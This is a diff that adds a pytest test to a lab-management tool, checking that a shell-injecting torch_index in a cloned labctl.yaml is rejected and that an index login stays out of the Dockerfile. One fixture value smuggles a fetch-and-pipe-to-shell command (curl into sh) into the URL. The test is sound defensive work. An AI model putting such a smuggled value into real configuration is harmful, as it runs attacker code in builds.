@@ -4,6 +4,7 @@ the engine's answer is passed in; tests/test_doctor_gpu.py asks the real engine.
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 
 import pytest
@@ -120,3 +121,21 @@ def test_auto_on_a_gpu_less_engine_is_a_cpu_lab(tmp_path: Path) -> None:
     assert compat.gpu_use(lab.spec("auto")) == "no"
     lab, _ = lab_with(tmp_path / "g", gpu=True)
     assert compat.gpu_use(lab.spec("auto")) == "optional"
+
+
+def test_a_cloned_lab_folders_torch_index_is_checked_and_its_login_kept_out(
+        tmp_path: Path) -> None:
+    """labctl.yaml travels with a cloned lab folder: a torch_index that would reach the
+    Dockerfile as shell is refused, naming the file and the key; one with a login keeps the
+    password in the build's secret, out of the Dockerfile and the build args."""
+    bad = write_lab(tmp_path / "bad", {"auto": AUTO},
+                    "network: {torch_index: 'https://m.example/whl;curl${IFS}x|sh'}\n")
+    with raises_id("spec.invalid") as e:  # the id of every invalid key
+        load_lab(str(bad), environ={}, host_root=bad)
+    assert "labctl.yaml" in str(e.value) and "torch_index" in str(e.value)
+    lab, _ = lab_with(tmp_path, "network: {torch_index: 'https://u:torchpw@m.example/whl'}\n",
+                      gpu=False)
+    ctx = render(lab, lab.spec("auto"))
+    assert "torchpw" not in ctx.dockerfile + json.dumps(ctx.buildargs)
+    assert "--index-url https://m.example/whl/cpu " in ctx.dockerfile
+    assert "machine m.example login u password torchpw" in ctx.secrets["netrc"].decode()
